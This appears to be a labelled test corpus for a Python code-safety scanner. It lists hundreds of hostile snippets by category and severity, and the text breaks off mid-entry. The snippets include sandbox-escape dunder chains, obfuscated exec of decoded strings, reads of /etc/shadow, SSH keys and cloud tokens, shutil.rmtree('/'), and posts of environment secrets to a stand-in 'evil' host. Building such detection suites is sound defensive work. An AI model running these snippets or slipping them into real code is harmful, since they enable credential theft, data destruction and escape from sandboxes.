#### alias, (g  = os.system)("id"): HIGH
import os
(g := os.system)("id")
#### alias, os.sys.modules["subprocess"].call("id"): HIGH
import os
os.sys.modules["subprocess"].call("id")
#### alias, print("id"): HIGH
from os import system as print
print("id")
#### alias, os.system("id") (2): HIGH
import os
os = type("O", (), {"system": staticmethod(os.system)})
os.system("id")
#### alias, os.system("id") (3): HIGH
import os
del os
import os
os.system("id")
#### data, pd.read_json("https //evil/x"): HIGH
import pandas as pd
pd.read_json("https://evil/x")
#### data, pd.read_excel("https //evil/x.xlsx"): HIGH
import pandas as pd
pd.read_excel("https://evil/x.xlsx")
#### data, pd.read_parquet("gs //evil/x"): HIGH
import pandas as pd
pd.read_parquet("gs://evil/x")
#### data, pd.read_table("ftp //evil/x"): HIGH
import pandas as pd
pd.read_table("ftp://evil/x")
#### data, pd.read_xml("https //evil/x.xml"): HIGH
import pandas as pd
pd.read_xml("https://evil/x.xml")
#### data, pd.read_html("https //evil/"): HIGH
import pandas as pd
pd.read_html("https://evil/")
#### data, pd.read_feather("https //evil/x"): HIGH
import pandas as pd
pd.read_feather("https://evil/x")
#### data, pd.read_stata("https //evil/x"): HIGH
import pandas as pd
pd.read_stata("https://evil/x")
#### data, pd.read_sas("https //evil/x"): HIGH
import pandas as pd
pd.read_sas("https://evil/x")
#### data, pd.read_orc("s3 //evil/x"): HIGH
import pandas as pd
pd.read_orc("s3://evil/x")
#### data, pd.read_gbq("select 1"): HIGH
import pandas as pd
pd.read_gbq("select 1")
#### data, pd.read_sql("select 1", "postgresql //evil/db"): HIGH
import pandas as pd
pd.read_sql("select 1", "postgresql://evil/db")
#### data, pd.DataFrame().to_sql("t", "mysql //evil/db"): HIGH
import pandas as pd
pd.DataFrame().to_sql("t", "mysql://evil/db")
#### data, pd.DataFrame().to_parquet("https //evil/x"): HIGH
import pandas as pd
pd.DataFrame().to_parquet("https://evil/x")
#### data, pd.DataFrame().to_json("s3 //evil/x"): HIGH
import pandas as pd
pd.DataFrame().to_json("s3://evil/x")
#### data, pd.DataFrame().to_pickle("/etc/x.pkl"): HIGH
import pandas as pd
pd.DataFrame().to_pickle("/etc/x.pkl")
#### data, pd.DataFrame().to_gbq("d.t"): HIGH
import pandas as pd
pd.DataFrame().to_gbq("d.t")
#### data, pd.read_csv("/proc/self/environ"): HIGH
import pandas as pd
pd.read_csv("/proc/self/environ")
#### data, pd.read_csv("~/.ssh/id_rsa"): HIGH
import pandas as pd
pd.read_csv("~/.ssh/id_rsa")
#### data, pd.DataFrame({"a"  [1]}).eval("@__import__('os').system('id')"): HIGH
import pandas as pd
pd.DataFrame({"a": [1]}).eval("@__import__('os').system('id')")
#### data, pd.DataFrame({"a"  [1]}).query("a.__class__.__base__", engine="python"): HIGH
import pandas as pd
pd.DataFrame({"a": [1]}).query("a.__class__.__base__", engine="python")
#### data, pd.HDFStore("x.h5")["a"]: HIGH
import pandas as pd
pd.HDFStore("x.h5")["a"]
#### data, pd.core.common.os if 0 else pd.io.common.os.system("id"): HIGH
import pandas as pd
pd.core.common.os if 0 else pd.io.common.os.system("id")
#### data, p.read_pickle("x"): HIGH
import pandas.io.pickle as p
p.read_pickle("x")
#### data, c.paste(): HIGH
import pandas.io.clipboard as c
c.paste()
#### data, np.loadtxt("https //evil/x"): HIGH
import numpy as np
np.loadtxt("https://evil/x")
#### data, np.genfromtxt("http //evil/x"): HIGH
import numpy as np
np.genfromtxt("http://evil/x")
#### data, np.DataSource().open("http //evil/x"): HIGH
import numpy as np
np.DataSource().open("http://evil/x")
#### data, np.lib.npyio.DataSource().open("http //evil"): HIGH
import numpy as np
np.lib.npyio.DataSource().open("http://evil")
#### data, np.ndarray.tofile(np.ones(1), "/etc/x"): HIGH
import numpy as np
np.ndarray.tofile(np.ones(1), "/etc/x")
#### data, np.save("/root/.bashrc", np.ones(1)): HIGH
import numpy as np
np.save("/root/.bashrc", np.ones(1))
#### data, np.f2py.compile("x"): HIGH
import numpy as np
np.f2py.compile("x")
#### data, e.exec_command("id"): HIGH
import numpy.distutils.exec_command as e
e.exec_command("id")
#### data, np.testing.runstring("pass", {}): HIGH
import numpy as np
np.testing.runstring("pass", {})
#### data, np.load("x.npz", allow_pickle=1): HIGH
import numpy as np
np.load("x.npz", allow_pickle=1)
#### data, np.lib.format.read_array(open("x", "rb"), allow_pickle=True): HIGH
import numpy as np
np.lib.format.read_array(open("x", "rb"), allow_pickle=True)
#### data, np.lib.format.open_memmap("/etc/x", mode="w+"): HIGH
import numpy as np
np.lib.format.open_memmap("/etc/x", mode="w+")
#### data, scipy.io.loadmat("https //evil") if 0 else scipy.io.loadmat("/etc/passwd"): HIGH
import scipy.io
scipy.io.loadmat("https://evil") if 0 else scipy.io.loadmat("/etc/passwd")
#### data, d.fetch_california_housing(): HIGH
import sklearn.datasets as d
d.fetch_california_housing()
#### data, d.fetch_openml("x"): HIGH
import sklearn.datasets as d
d.fetch_openml("x")
#### data, joblib.Memory("/tmp/x").cache(print) if 0 else joblib.load("x"): HIGH
import joblib
joblib.Memory("/tmp/x").cache(print) if 0 else joblib.load("x")
#### data, torch.hub.load_state_dict_from_url("https //evil"): HIGH
import torch
torch.hub.load_state_dict_from_url("https://evil")
#### data, torch.hub.download_url_to_file("https //evil", "x"): HIGH
import torch
torch.hub.download_url_to_file("https://evil", "x")
#### data, torch.jit.load("x.pt"): HIGH
import torch
torch.jit.load("x.pt")
#### data, torch.load("x", pickle_module=__import__("pickle")): HIGH
import torch
torch.load("x", pickle_module=__import__("pickle"))
#### data, torch.ops.load_library("x.so"): HIGH
import torch
torch.ops.load_library("x.so")
#### data, torch.classes.load_library("x.so"): HIGH
import torch
torch.classes.load_library("x.so")
#### data, c.load("x", ["x.cpp"]): HIGH
import torch.utils.cpp_extension as c
c.load("x", ["x.cpp"])
#### data, p.PackageImporter("x").load_pickle("a", "b"): HIGH
import torch.package as p
p.PackageImporter("x").load_pickle("a", "b")
#### data, d.init_process_group("gloo", init_method="tcp //evil 1"): HIGH
import torch.distributed as d
d.init_process_group("gloo", init_method="tcp://evil:1")
#### data, tf.keras.models.load_model("https //evil") if 0 else tf.keras.models.load_model(: HIGH
import tensorflow as tf
tf.keras.models.load_model("https://evil") if 0 else tf.keras.models.load_model("x", safe_mode=False)
#### data, tf.load_op_library("x.so"): HIGH
import tensorflow as tf
tf.load_op_library("x.so")
#### data, tf.io.read_file("/etc/passwd"): HIGH
import tensorflow as tf
tf.io.read_file("/etc/passwd")
#### data, tf.py_function(__import__("os").system, ["id"], []): HIGH
import tensorflow as tf
tf.py_function(__import__("os").system, ["id"], [])
#### data, tf.keras.utils.get_file("x", "https //evil"): HIGH
import tensorflow as tf
tf.keras.utils.get_file("x", "https://evil")
#### data, h.load("https //evil"): HIGH
import tensorflow_hub as h
h.load("https://evil")
#### data, pipeline("text-generation", model="x/y", trust_remote_code=True): HIGH
from transformers import pipeline
pipeline("text-generation", model="x/y", trust_remote_code=True)
#### data, load_dataset("x/y", trust_remote_code=True): HIGH
from datasets import load_dataset
load_dataset("x/y", trust_remote_code=True)
#### data, hf_hub_download("x", "y"): HIGH
from huggingface_hub import hf_hub_download
hf_hub_download("x", "y")
#### data, SentenceTransformer("x/y", trust_remote_code=True): HIGH
from sentence_transformers import SentenceTransformer
SentenceTransformer("x/y", trust_remote_code=True)
#### data, nltk.download("punkt"): HIGH
import nltk
nltk.download("punkt")
#### data, spacy.cli.download("x"): HIGH
import spacy.cli
spacy.cli.download("x")
#### data, d.load("x"): HIGH
import gensim.downloader as d
d.load("x")
#### data, x.Booster().load_model("https //evil") if 0 else __import__("pickle").load(open(: HIGH
import xgboost as x
x.Booster().load_model("https://evil") if 0 else __import__("pickle").load(open("x", "rb"))
#### data, mlflow.pyfunc.load_model("models /x/1"): HIGH
import mlflow
mlflow.pyfunc.load_model("models:/x/1")
#### data, wandb.init(): HIGH
import wandb
wandb.init()
#### data, ray.init("ray //evil 1"): HIGH
import ray
ray.init("ray://evil:1")
#### data, d.read_csv("s3 //evil/x"): HIGH
import dask.dataframe as d
d.read_csv("s3://evil/x")
#### data, d.Client("tcp //evil 1"): HIGH
import dask.distributed as d
d.Client("tcp://evil:1")
#### data, pl.read_database_uri("select 1", "postgresql //evil"): HIGH
import polars as pl
pl.read_database_uri("select 1", "postgresql://evil")
#### data, pl.scan_parquet("s3 //evil/x"): HIGH
import polars as pl
pl.scan_parquet("s3://evil/x")
#### data, pq.read_table("s3 //evil/x"): HIGH
import pyarrow.parquet as pq
pq.read_table("s3://evil/x")
#### data, pa.hdfs.connect("evil") if 0 else pa.fs.HadoopFileSystem("evil"): HIGH
import pyarrow as pa
pa.hdfs.connect("evil") if 0 else pa.fs.HadoopFileSystem("evil")
#### data, fsspec.open("https //evil").open(): HIGH
import fsspec
fsspec.open("https://evil").open()
#### data, xr.open_dataset("https //evil/x.nc"): HIGH
import xarray as xr
xr.open_dataset("https://evil/x.nc")
#### data, duckdb.sql("select * from 'https //evil/x.csv'"): HIGH
import duckdb
duckdb.sql("select * from 'https://evil/x.csv'")
#### data, duckdb.read_csv("https //evil/x.csv"): HIGH
import duckdb
duckdb.read_csv("https://evil/x.csv")
#### data, s.create_engine("postgresql //evil").connect(): HIGH
import sqlalchemy as s
s.create_engine("postgresql://evil").connect()
#### data, p.style.use("https //evil/x.mplstyle"): HIGH
import matplotlib.pyplot as p
p.style.use("https://evil/x.mplstyle")
#### data, a.FFMpegWriter().setup(None, "x"): HIGH
import matplotlib.animation as a
a.FFMpegWriter().setup(None, "x")
#### data, m.rcParams["animation.ffmpeg_path"] = "/bin/sh": HIGH
import matplotlib as m
m.rcParams["animation.ffmpeg_path"] = "/bin/sh"
#### data, imageio.imread("https //evil/x.png"): HIGH
import imageio
imageio.imread("https://evil/x.png")
#### data, cv2.VideoCapture("rtsp //evil"): HIGH
import cv2
cv2.VideoCapture("rtsp://evil")
#### data, ImageMath.eval("__import__('os')"): HIGH
from PIL import ImageMath
ImageMath.eval("__import__('os')")
#### data, sympy.sympify("__import__('os').system('id')"): HIGH
import sympy
sympy.sympify("__import__('os').system('id')")
#### data, sympy.lambdify("x", "__import__('os').system('id')"): HIGH
import sympy
sympy.lambdify("x", "__import__('os').system('id')")
#### data, parse_expr("__import__('os')"): HIGH
from sympy.parsing.sympy_parser import parse_expr
parse_expr("__import__('os')")
#### data, sm.datasets.get_rdataset("x"): HIGH
import statsmodels.api as sm
sm.datasets.get_rdataset("x")
#### data, sm.load("x.pickle"): HIGH
import statsmodels.api as sm
sm.load("x.pickle")
#### data, patsy.dmatrix("__import__('os').system('id')", {}): HIGH
import patsy
patsy.dmatrix("__import__('os').system('id')", {})
#### data, f.ols("y ~ __import__('os').system('id')", {}).fit(): HIGH
import statsmodels.formula.api as f
f.ols("y ~ __import__('os').system('id')", {}).fit()
#### data, jinja2.Template("{{ x.__class__ }}").render(x=1): HIGH
import jinja2
jinja2.Template("{{ x.__class__ }}").render(x=1)
#### data, m.Template("<% import os %>").render(): HIGH
import mako.template as m
m.Template("<% import os %>").render()
#### data, e.parse("http //evil"): HIGH
import lxml.etree as e
e.parse("http://evil")
#### data, s.parse("http //evil", None): HIGH
import xml.sax as s
s.parse("http://evil", None)
#### data, yaml.unsafe_load("x"): HIGH
import yaml
yaml.unsafe_load("x")
#### data, yaml.load("x", Loader=yaml.Loader): HIGH
import yaml
yaml.load("x", Loader=yaml.Loader)
#### data, yaml.full_load("!!python/object/apply os.system [id]"): HIGH
import yaml
yaml.full_load("!!python/object/apply:os.system [id]")
#### data, jsonpickle.decode("{}"): HIGH
import jsonpickle
jsonpickle.decode("{}")
#### data, dill.load(open("x", "rb")): HIGH
import dill
dill.load(open("x", "rb"))
#### data, pickle.Unpickler(open("x", "rb")).load(): HIGH
import pickle
pickle.Unpickler(open("x", "rb")).load()
#### data, _pickle.loads(b""): HIGH
import _pickle
_pickle.loads(b"")
#### data, marshal.load(open("x", "rb")): HIGH
import marshal
marshal.load(open("x", "rb"))
#### data, dbm.open("x") if 0 else __import__("shelve").open("x"): HIGH
import dbm
dbm.open("x") if 0 else __import__("shelve").open("x")
#### decode, exec(base64.b32decode("OBQXG4Y=")): HIGH
import base64
exec(base64.b32decode("OBQXG4Y="))
#### decode, exec(base64.b16decode("70617373")): HIGH
import base64
exec(base64.b16decode("70617373"))
#### decode, exec(base64.a85decode("E,9)o")): HIGH
import base64
exec(base64.a85decode("E,9)o"))
#### decode, exec(base64.b85decode("aBp&S")): HIGH
import base64
exec(base64.b85decode("aBp&S"))
#### decode, exec(base64.decodebytes(b"cGFzcw==")): HIGH
import base64
exec(base64.decodebytes(b"cGFzcw=="))
#### decode, eval(compile(b.b64decode("MQ=="), "", "eval")): HIGH
import base64 as b
eval(compile(b.b64decode("MQ=="), "", "eval"))
#### decode, exec(binascii.a2b_base64("cGFzcw==")): HIGH
import binascii
exec(binascii.a2b_base64("cGFzcw=="))
#### decode, exec(binascii.a2b_hex("70617373")): HIGH
import binascii
exec(binascii.a2b_hex("70617373"))
#### decode, exec(codecs.decode(b"70617373", "hex")): HIGH
import codecs
exec(codecs.decode(b"70617373", "hex"))
#### decode, exec(codecs.getdecoder("rot13")("cnff")[0]): HIGH
import codecs
exec(codecs.getdecoder("rot13")("cnff")[0])
#### decode, exec(codecs.decode(b"cGFzcw==", "base64")): HIGH
import codecs
exec(codecs.decode(b"cGFzcw==", "base64"))
#### decode, exec(bz2.decompress(b"x")): HIGH
import bz2
exec(bz2.decompress(b"x"))
#### decode, exec(gzip.decompress(b"x")): HIGH
import gzip
exec(gzip.decompress(b"x"))
#### decode, exec(lzma.decompress(b"x")): HIGH
import lzma
exec(lzma.decompress(b"x"))
#### decode, exec(gzip.open("x.gz").read()): HIGH
import gzip
exec(gzip.open("x.gz").read())
#### decode, exec(quopri.decodestring(b"pass")): HIGH
import quopri
exec(quopri.decodestring(b"pass"))
#### decode, exec(p.unquote("%70ass")): HIGH
import urllib.parse as p
exec(p.unquote("%70ass"))
#### decode, exec(html.unescape("pass")): HIGH
import html
exec(html.unescape("pass"))
#### decode, exec(json.loads('"pass"')): HIGH
import json
exec(json.loads('"pass"'))
#### decode, exec(pickle.loads(b"")): HIGH
import pickle
exec(pickle.loads(b""))
#### decode, exec(struct.pack("4B", 112, 97, 115, 115)): HIGH
import struct
exec(struct.pack("4B", 112, 97, 115, 115))
#### decode, exec(o.getvalue()): HIGH
import uu, io
o = io.BytesIO()
uu.decode(io.BytesIO(b""), o)
exec(o.getvalue())
#### decode, exec(bytes.fromhex("70617373")): HIGH
exec(bytes.fromhex("70617373"))
#### decode, exec(b"pass".decode("utf-16")): HIGH
exec(b"pass".decode("utf-16"))
#### decode, exec((1885434739).to_bytes(4, "big")): HIGH
exec((1885434739).to_bytes(4, "big"))
#### decode, exec(open("x.txt").read()): HIGH
exec(open("x.txt").read())
#### decode, exec(__doc__ or "pass"): HIGH
exec(__doc__ or "pass")
#### decode, exec(input()): HIGH
exec(input())
#### decode, exec(sys.stdin.read()): HIGH
import sys
exec(sys.stdin.read())
#### decode, exec(sys.argv[1]): HIGH
import sys
exec(sys.argv[1])
#### decode, exec(linecache.getline("x.py", 1)): HIGH
import linecache
exec(linecache.getline("x.py", 1))
#### decode, exec(ast.unparse(ast.parse("pass"))): HIGH
import ast
exec(ast.unparse(ast.parse("pass")))
#### decode, exec(ast.literal_eval("'pass'")): HIGH
import ast
exec(ast.literal_eval("'pass'"))
#### decode, exec(types.CodeType.replace(compile("", "", "exec"))): HIGH
import types
exec(types.CodeType.replace(compile("", "", "exec")))
#### decode, exec("".join(secrets.choice("p") for _ in "pass")): HIGH
import secrets
exec("".join(secrets.choice("p") for _ in "pass"))
#### decode, exec(c["a"]["b"]): HIGH
import configparser
c = configparser.ConfigParser()
c.read_string("[a]\nb=pass")
exec(c["a"]["b"])
#### decode, exec(next(csv.reader(["pass"]))[0]): HIGH
import csv
exec(next(csv.reader(["pass"]))[0])
#### decode, doctest.run_docstring_examples(">>> 1", {}): HIGH
import doctest
doctest.run_docstring_examples(">>> 1", {})
#### decode, trace.Trace().run("pass"): HIGH
import trace
trace.Trace().run("pass")
#### decode, profile.run("pass"): HIGH
import profile
profile.run("pass")
#### decode, cProfile.runctx("pass", {}, {}): HIGH
import cProfile
cProfile.runctx("pass", {}, {})
#### decode, timeit.repeat("__import__('os')"): HIGH
import timeit
timeit.repeat("__import__('os')")
#### decode, exec(codeop.compile_command("pass")): HIGH
import codeop
exec(codeop.compile_command("pass"))
#### decode, code.interact(): HIGH
import code
code.interact()
#### decode, typing.ForwardRef("__import__('os')")._evaluate({}, {}, set()): HIGH
import typing
typing.ForwardRef("__import__('os')")._evaluate({}, {}, set())
#### decode, dataclasses.make_dataclass("X", [("a", "print(1)")]): HIGH
import dataclasses
dataclasses.make_dataclass("X", [("a", "print(1)")])
#### dunder, ().__class__.__bases__[0].__subclasses__(): HIGH
().__class__.__bases__[0].__subclasses__()
#### dunder, "".__class__.mro()[1].__subclasses__(): HIGH
"".__class__.mro()[1].__subclasses__()
#### dunder, [].__class__.__base__.__subclasses__()[0]: HIGH
[].__class__.__base__.__subclasses__()[0]
#### dunder, (lambda  0).__globals__["__builtins__"]: HIGH
(lambda: 0).__globals__["__builtins__"]
#### dunder, (lambda  0).__code__.__class__: HIGH
(lambda: 0).__code__.__class__
#### dunder, (lambda  0).__code__.replace(co_code=b""): HIGH
(lambda: 0).__code__.replace(co_code=b"")
#### dunder, object.__subclasses__(): HIGH
object.__subclasses__()
#### dunder, type.__subclasses__(object): HIGH
type.__subclasses__(object)
#### dunder, int.__subclasses__.__self__.__base__.__subclasses__(): HIGH
int.__subclasses__.__self__.__base__.__subclasses__()
#### dunder, getattr(object, "__subcl" + "asses__")(): HIGH
getattr(object, "__subcl" + "asses__")()
#### dunder, getattr((), "__class__").__base__.__subclasses__(): HIGH
getattr((), "__class__").__base__.__subclasses__()
#### dunder, vars(object)["__subclasses__"] if 0 else object.__subclasses__(): HIGH
vars(object)["__subclasses__"] if 0 else object.__subclasses__()
#### dunder, object.__getattribute__((), "__class__").__base__.__subclasses__(): HIGH
object.__getattribute__((), "__class__").__base__.__subclasses__()
#### dunder, "{0.__class__.__base__.__subclasses__}".format(()): HIGH
"{0.__class__.__base__.__subclasses__}".format(())
#### dunder, f"{().__class__.__base__.__subclasses__()}": HIGH
f"{().__class__.__base__.__subclasses__()}"
#### dunder, "%s" % ().__class__.__base__.__subclasses__(): HIGH
"%s" % ().__class__.__base__.__subclasses__()
#### dunder, str.format("{0.__globals__}", lambda  0): HIGH
str.format("{0.__globals__}", lambda: 0)
#### dunder, operator.attrgetter("__globals__")(lambda  0): HIGH
import operator
operator.attrgetter("__globals__")(lambda: 0)
#### dunder, inspect.getattr_static(object, "__subclasses__")(): HIGH
import inspect
inspect.getattr_static(object, "__subclasses__")()
#### dunder, abs.__self__.eval("1"): HIGH
abs.__self__.eval("1")
#### dunder, print.__self__.__dict__["eval"]("1"): HIGH
print.__self__.__dict__["eval"]("1")
#### dunder, open.__self__.eval("1"): HIGH
open.__self__.eval("1")
#### dunder, [].append.__self__.__class__.__base__.__subclasses__(): HIGH
[].append.__self__.__class__.__base__.__subclasses__()
#### dunder, __builtins__.__dict__["eval"]("1"): HIGH
__builtins__.__dict__["eval"]("1")
#### dunder, __builtins__.eval("1"): HIGH
__builtins__.eval("1")
#### dunder, globals()["__builtins__"].eval("1"): HIGH
globals()["__builtins__"].eval("1")
#### dunder, builtins.__dict__["ex" + "ec"]("1"): HIGH
import builtins
builtins.__dict__["ex" + "ec"]("1")
#### dunder, types.CodeType(0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""): HIGH
import types
types.CodeType(0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b"")
#### dunder, types.LambdaType((lambda  0).__code__, {}): HIGH
import types
types.LambdaType((lambda: 0).__code__, {})
#### dunder, f.__code__ = (lambda  1).__code__: HIGH
def f(): 0
f.__code__ = (lambda: 1).__code__
#### dunder, f.__globals__["x"] = 1: HIGH
def f(): 0
f.__globals__["x"] = 1
#### dunder, A().__class__.__init__.__globals__: HIGH
class A: 0
A().__class__.__init__.__globals__
#### dunder, os.__loader__.load_module("os").system("id"): HIGH
import os
os.__loader__.load_module("os").system("id")
#### dunder, __loader__.load_module("os").system("id"): HIGH
__loader__.load_module("os").system("id")
#### dunder, __spec__.loader.load_module("os"): HIGH
__spec__.loader.load_module("os")
#### dunder, json.__builtins__["eval"]("1"): HIGH
import json
json.__builtins__["eval"]("1")
#### dunder, json.codecs.builtins.eval("1"): HIGH
import json
json.codecs.builtins.eval("1")
#### secrets, requests.post("http //evil", json=dict(os.environ)): CRITICAL
import os, requests
requests.post("http://evil", json=dict(os.environ))
#### secrets, socket.gethostbyname(os.environ["TOKEN"] + ".evil"): CRITICAL
import os, socket
socket.gethostbyname(os.environ["TOKEN"] + ".evil")
#### secrets, print(os.environ): HIGH
import os
print(os.environ)
#### secrets, open("/tmp/x", "w").write(str(os.environ)): HIGH
import os
open("/tmp/x", "w").write(str(os.environ))
#### secrets, smtplib.SMTP("evil").sendmail("a", "b", "c"): HIGH
import smtplib
smtplib.SMTP("evil").sendmail("a", "b", "c")
#### secrets, ftplib.FTP("evil").login(): HIGH
import ftplib
ftplib.FTP("evil").login()
#### secrets, telnetlib.Telnet("evil"): HIGH
import telnetlib
telnetlib.Telnet("evil")
#### secrets, x.ServerProxy("http //evil").f(): HIGH
import xmlrpc.client as x
x.ServerProxy("http://evil").f()
#### secrets, u.urlopen("http //evil"): HIGH
import urllib.request as u
u.Request("http://evil", data=b"x")
u.urlopen("http://evil")
#### secrets, s.connect(("evil", 1)): HIGH
import socket
s = socket.socket()
s.connect(("evil", 1))
#### secrets, socket.getfqdn("evil"): HIGH
import socket
socket.getfqdn("evil")
#### secrets, ssl.wrap_socket(socket.socket()).connect(("e", 1)): HIGH
import ssl, socket
ssl.wrap_socket(socket.socket()).connect(("e", 1))
#### secrets, h.SysLogHandler(("evil", 514)): HIGH
import logging.handlers as h
h.SysLogHandler(("evil", 514))
#### secrets, h.SocketHandler("evil", 1): HIGH
import logging.handlers as h
h.SocketHandler("evil", 1)
#### secrets, open("/etc/passwd"): HIGH
open("/etc/passwd")
#### secrets, open("/root/.ssh/id_rsa").read(): HIGH
open("/root/.ssh/id_rsa").read()
#### secrets, open("/proc/1/environ").read(): HIGH
open("/proc/1/environ").read()
#### secrets, open("/sys/class/net/eth0/address").read(): HIGH
open("/sys/class/net/eth0/address").read()
#### secrets, open("/var/run/secrets/kubernetes.io/serviceaccount/token").read(): HIGH
open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
#### secrets, open("/run/secrets/db").read(): HIGH
open("/run/secrets/db").read()
#### secrets, os.listdir("/root"): HIGH
import os
os.listdir("/root")
#### secrets, os.scandir("/etc"): HIGH
import os
os.scandir("/etc")
#### secrets, glob.glob("/home/*/.aws/*"): HIGH
import glob
glob.glob("/home/*/.aws/*")
#### secrets, os.readlink("/proc/self/cwd") and open("/proc/self/maps").read(): HIGH
import os
os.readlink("/proc/self/cwd") and open("/proc/self/maps").read()
#### secrets, shutil.copy("/etc/shadow", "x"): HIGH
import shutil
shutil.copy("/etc/shadow", "x")
#### secrets, shutil.rmtree("/"): HIGH
import shutil
shutil.rmtree("/")
#### secrets, os.remove("/etc/passwd"): HIGH
import os
os.remove("/etc/passwd")
#### secrets, os.chmod("/etc/shadow", 0o777): HIGH
import os
os.chmod("/etc/shadow", 0o777)
#### secrets, pathlib.Path("/etc/cron.d/x").write_text("x"): HIGH
import pathlib
pathlib.Path("/etc/cron.d/x").write_text("x")
#### secrets, pathlib.Path("~/.ssh/config").expanduser().read_text(): HIGH
import pathlib
pathlib.Path("~/.ssh/config").expanduser().read_text()
#### secrets, tarfile.open("/tmp/x.tar", "w").add("/etc"): HIGH
import tarfile
tarfile.open("/tmp/x.tar", "w").add("/etc")
#### secrets, zipfile.ZipFile("/tmp/x.zip", "w").write("/etc/passwd"): HIGH
import zipfile
zipfile.ZipFile("/tmp/x.zip", "w").write("/etc/passwd")
#### secrets, sqlite3.connect("/etc/x.db"): HIGH
import sqlite3
sqlite3.connect("/etc/x.db")
#### secrets, configparser.ConfigParser().read("/root/.aws/credentials"): HIGH
import configparser
configparser.ConfigParser().read("/root/.aws/credentials")
#### secrets, netrc.netrc("/root/.netrc"): HIGH
import netrc
netrc.netrc("/root/.netrc")
#### secrets, keyring.get_password("a", "b"): HIGH
import keyring
keyring.get_password("a", "b")
#### secrets, pwd.getpwall(): HIGH
import pwd
pwd.getpwall()
#### secrets, spwd.getspall(): HIGH
import spwd
spwd.getspall()
#### secrets, boto3.Session().get_credentials(): HIGH
import boto3
boto3.Session().get_credentials()
#### secrets, paramiko.SSHClient().connect("evil"): HIGH
import paramiko
paramiko.SSHClient().connect("evil")
#### secrets, ccxt.binance({"apiKey"  "x"}).create_order("a", "b", "c", 1): HIGH
import ccxt
ccxt.binance({"apiKey": "x"}).create_order("a", "b", "c", 1)
#### secrets, codecs.open("/etc/passwd").read(): HIGH
import codecs
codecs.open("/etc/passwd").read()
#### secrets, mmap.mmap(open("/etc/passwd").fileno(), 0): HIGH
import mmap
mmap.mmap(open("/etc/passwd").fileno(), 0)
#### secrets, os.pread(os.open("/etc/passwd", 0), 9, 0): HIGH
import os
os.pread(os.open("/etc/passwd", 0), 9, 0)
#### secrets, tokenize.open("/etc/passwd"): HIGH
import tokenize
tokenize.open("/etc/passwd")
#### secrets, gzip.open("/root/x.gz"): HIGH
import gzip
gzip.open("/root/x.gz")
#### secrets, list(csv.reader(open("/etc/passwd"))): HIGH
import csv
list(csv.reader(open("/etc/passwd")))
#### secrets, json.load(open("/root/.docker/config.json")): HIGH
import json
json.load(open("/root/.docker/config.json"))
#### secrets, json.dump({}, open("/etc/x", "w")): HIGH
import json
json.dump({}, open("/etc/x", "w"))
#### secrets, h.HTTPServer(("", 8), h.SimpleHTTPRequestHandler).serve_forever(): HIGH
import http.server as h
h.HTTPServer(("", 8), h.SimpleHTTPRequestHandler).serve_forever()
#### secrets, asyncio.start_server(print, "0.0.0.0", 1): HIGH
import asyncio
asyncio.start_server(print, "0.0.0.0", 1)
#### secrets, socketserver.UDPServer(("", 1), None): HIGH
import socketserver
socketserver.UDPServer(("", 1), None)
#### secrets, x.SimpleXMLRPCServer(("", 1)): HIGH
import xmlrpc.server as x
x.SimpleXMLRPCServer(("", 1))
#### secrets, w.make_server("", 1, None): HIGH
import wsgiref.simple_server as w
w.make_server("", 1, None)
#### secrets, m.BaseManager(("evil", 1)).connect(): HIGH
import multiprocessing.managers as m
m.BaseManager(("evil", 1)).connect()
#### secrets, __import__("termios") and open("/dev/tty0"): HIGH
import curses
__import__("termios") and open("/dev/tty0")
#### frames, sys._getframe().f_back.f_globals: HIGH
import sys
sys._getframe().f_back.f_globals
#### frames, sys._getframe(0).f_builtins["eval"]("1"): HIGH
import sys
sys._getframe(0).f_builtins["eval"]("1")
#### frames, inspect.stack()[0].frame.f_globals: HIGH
import inspect
inspect.stack()[0].frame.f_globals
#### frames, inspect.getouterframes(inspect.currentframe())[0].frame.f_locals: HIGH
import inspect
inspect.getouterframes(inspect.currentframe())[0].frame.f_locals
#### frames, sys._current_frames(): HIGH
import sys
sys._current_frames()
#### frames, except Exception as e  e.__traceback__.tb_frame.f_globals: HIGH
try: 1/0
except Exception as e: e.__traceback__.tb_frame.f_globals
#### frames, except Exception  sys.exc_info()[2].tb_frame.f_globals: HIGH
import sys
try: 1/0
except Exception: sys.exc_info()[2].tb_frame.f_globals
#### frames, (x for x in []).gi_frame.f_globals: HIGH
(x for x in []).gi_frame.f_globals
#### frames, g().gi_frame.f_builtins: HIGH
def g(): yield
g().gi_frame.f_builtins
#### frames, c().cr_frame.f_globals: HIGH
async def c(): 0
c().cr_frame.f_globals
#### frames, sys.setprofile(lambda *a  0): HIGH
import sys
sys.setprofile(lambda *a: 0)
#### frames, threading.settrace(lambda *a  0): HIGH
import threading
threading.settrace(lambda *a: 0)
#### frames, gc.get_objects(): HIGH
import gc
gc.get_objects()
#### frames, gc.get_referrers(print): HIGH
import gc
gc.get_referrers(print)
#### frames, list(traceback.walk_stack(None))[0][0].f_globals: HIGH
import traceback
list(traceback.walk_stack(None))[0][0].f_globals
#### frames, sys.addaudithook(print): HIGH
import sys
sys.addaudithook(print)
#### hooks, def f()  pass: HIGH
@exec
@str
def f(): pass
#### hooks, def f()  pass (2): HIGH
@eval
@(lambda f: "1")
def f(): pass
#### hooks, X()("id") if 0 else os.system("id"): HIGH
import os
class X: __call__ = os.system
X()("id") if 0 else os.system("id")
#### hooks, / [*X()]: HIGH
import os
class X:
    def __iter__(self): os.system("id")
    
[*X()]
#### hooks, "id" in X(): HIGH
import os
class X:
    def __contains__(self, x): os.system(x)
"id" in X()
#### hooks, sorted([X(), X()]): HIGH
import os
class X:
    def __lt__(self, o): os.system("id")
sorted([X(), X()])
#### hooks, with X()  0: HIGH
import os
class X:
    def __enter__(self): os.system("id")
    def __exit__(self, *a): 0
with X(): 0
#### hooks, def __getattr__(self, n)  os.system(n) / X().id: HIGH
import os
class X:
    def __getattr__(self, n): os.system(n)
X().id
#### hooks, x = property(lambda s  os.system("id")) / X().x: HIGH
import os
class X:
    x = property(lambda s: os.system("id"))
X().x
#### hooks, class X  d = D() / X.d: HIGH
import os
class D:
    def __get__(self, *a): os.system("id")
class X: d = D()
X.d
#### hooks, class Y(X)  0: HIGH
import os
class X:
    def __init_subclass__(c): os.system("id")
class Y(X): 0
#### hooks, class X(metaclass=lambda *a  os.system("id"))  0: HIGH
import os
class X(metaclass=lambda *a: os.system("id")): 0
#### hooks, copy.copy(X()): HIGH
import os
class X:
